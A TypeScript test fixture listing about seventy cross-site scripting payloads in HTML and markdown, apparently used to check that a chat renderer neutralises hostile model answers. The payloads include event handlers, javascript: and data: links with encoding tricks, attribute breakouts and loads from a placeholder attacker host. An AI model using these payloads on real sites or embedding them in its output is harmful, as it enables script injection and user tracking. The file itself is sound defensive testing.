// Answers a hostile or confused model could write. Every one must render inert: no element that
// runs or loads anything, no event handler, no style, no link to a scheme other than http(s),
// mailto, or a relative path. Shared with the real-chromium end-to-end test (a canary that any
// executed script would set), so keep this module free of Node and DOM imports.

export interface XssPayload {
  readonly name: string;
  readonly markdown: string;
}

const raw: Array<[string, string]> = [
  // Raw HTML (markdown-it runs with html: false, so all of it must come out as text)
  ['script tag', '<script>window.__xss = 1</script>'],
  ['script tag, upper case, remote src', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
  ['img onerror', '<img src=x onerror="window.__xss=1">'],
  ['img onerror, no quotes', '<img src=x onerror=window.__xss=1//>'],
  ['img with eval of its own src', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['svg onload', '<svg onload=window.__xss=1>'],
  ['svg with slash', '<svg/onload=window.__xss=1>'],
  ['script inside svg', '<svg><script>window.__xss=1</script></svg>'],
  ['iframe javascript src', '<iframe src="javascript:window.__xss=1"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'],
  ['object data', '<object data="javascript:window.__xss=1"></object>'],
  ['embed src', '<embed src="javascript:window.__xss=1">'],
  ['style element', '<style>body{background:url("javascript:window.__xss=1")}</style>'],
  ['style attribute with url', '<div style="background-image:url(javascript:window.__xss=1)">x</div>'],
  ['CSS expression', '<p style="width:expression(window.__xss=1)">x</p>'],
  ['math with script', '<math><mtext><script>window.__xss=1</script></mtext></math>'],
  ['form with javascript action', '<form action="javascript:window.__xss=1"><input type=submit></form>'],
  ['input autofocus onfocus', '<input autofocus onfocus=window.__xss=1>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">'],
  ['base href', '<base href="javascript:window.__xss=1//">'],
  ['link stylesheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
  ['anchor with javascript href', '<a href="javascript:window.__xss=1">x</a>'],
  ['anchor href with leading space', '<a href=" javascript:window.__xss=1">x</a>'],
  ['anchor href with entity tab', '<a href="jav&#x09;ascript:window.__xss=1">x</a>'],
  ['anchor with data href', '<a href="data:text/html,<script>window.__xss=1</script>">x</a>'],
  ['anchor target and onclick', '<a href="https://example.com" target="_blank" onclick="window.__xss=1">x</a>'],
  ['body onload', '<body onload=window.__xss=1>'],
  ['details ontoggle', '<details open ontoggle=window.__xss=1>'],
  ['video source onerror', '<video><source onerror=window.__xss=1></video>'],
  ['audio onerror', '<audio src=x onerror=window.__xss=1>'],
  ['template with script', '<template><script>window.__xss=1</script></template>'],
  ['noscript breakout', '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">'],
  ['comment hiding an img', '<!--<img src=x onerror=window.__xss=1>-->'],
  ['button formaction', '<button formaction=javascript:window.__xss=1>x</button>'],
  ['unknown element with handler', '<x onclick=window.__xss=1>click</x>'],
  ['overlay by style', '<a href="#" style="position:fixed;inset:0">overlay</a>'],
  // Markdown links and images
  ['markdown javascript link', '[x](javascript:window.__xss=1)'],
  ['markdown javascript link, mixed case', '[x](JaVaScRiPt:window.__xss=1)'],
  ['markdown javascript link, named entity colon', '[x](javascript&colon;window.__xss=1)'],
  ['markdown javascript link, numeric entity', '[x](&#106;avascript:window.__xss=1)'],
  ['markdown javascript link, tab in angle brackets', '[x](<java\tscript:window.__xss=1>)'],
  ['markdown javascript link, spaces', '[x]( javascript:window.__xss=1 )'],
  ['markdown javascript link in angle brackets', '[x](<javascript:window.__xss=1>)'],
  ['markdown javascript link with title', '[x](javascript:window.__xss=1 "title")'],
  ['markdown vbscript link', '[x](vbscript:msgbox(1))'],
  ['markdown data link', '[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)'],
  ['markdown file link', '[x](file:///etc/passwd)'],
  ['markdown protocol-relative link', '[x](//evil.example/path)'],
  ['markdown backslash host link', '[x](\\\\evil.example\\share)'],
  ['markdown link breaking out of href', '[x](https://example.com" onmouseover="window.__xss=1)'],
  ['markdown link with escaped quote', '[x](https://example.com/\\"onmouseover=window.__xss=1)'],
  ['markdown javascript image', '![x](javascript:window.__xss=1)'],
  ['markdown svg data image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cGFyZW50Ll9feHNzPTE+)'],
  ['markdown png data image', '![x](data:image/png;base64,iVBORw0KGgo=)'],
  ['markdown remote image (tracking pixel)', '![x](https://evil.example/pixel.png)'],
  ['image inside a javascript link', '[![x](https://evil.example/pixel.png)](javascript:window.__xss=1)'],
  ['autolink javascript', '<javascript:window.__xss=1>'],
  ['autolink vbscript', '<vbscript:msgbox(1)>'],
  ['autolink data', '<data:text/html,<script>window.__xss=1</script>>'],
  ['reference definition to javascript', '[ref]: javascript:window.__xss=1\n\n[x][ref]'],
  ['reference used before a data definition', '[x][ref2]\n\n[ref2]: data:text/html,window.__xss=1'],
  ['linkify next to markup', 'www.example.com/<script>window.__xss=1</script>'],
  ['bare URL followed by markup', 'https://example.com/"><script>window.__xss=1</script>'],
  // Code, and markup inside markdown constructs
  ['script in an html fence', '```html\n<script>window.__xss=1</script>\n```'],
  ['fence info string injection', '```"><img src=x onerror=window.__xss=1>\ncode\n```'],
  ['fence info with a handler', '```js onload=window.__xss=1\nx\n```'],
  ['script in inline code', '`<script>window.__xss=1</script>`'],
  ['img inside strong', '**<img src=x onerror=window.__xss=1>**'],
  ['markup in a table', '| <script>window.__xss=1</script> | b |\n|---|---|\n| <img src=x onerror=window.__xss=1> | c |'],
  ['iframe in a quote', '> <iframe src=javascript:window.__xss=1>'],
  ['svg in a list', '- <svg/onload=window.__xss=1>'],
  ['escaped entities', '&lt;script&gt;window.__xss=1&lt;/script&gt;'],
  ['backslash-escaped tags', '\\<script>window.__xss=1\\</script>'],
];

export const XSS_PAYLOADS: readonly XssPayload[] = raw.map(([name, markdown]) => ({ name, markdown }));

/** All payloads as one answer, blocks apart: what the end-to-end test streams. */
export const XSS_ANSWER: string = XSS_PAYLOADS.map((p) => p.markdown).join('\n\n');
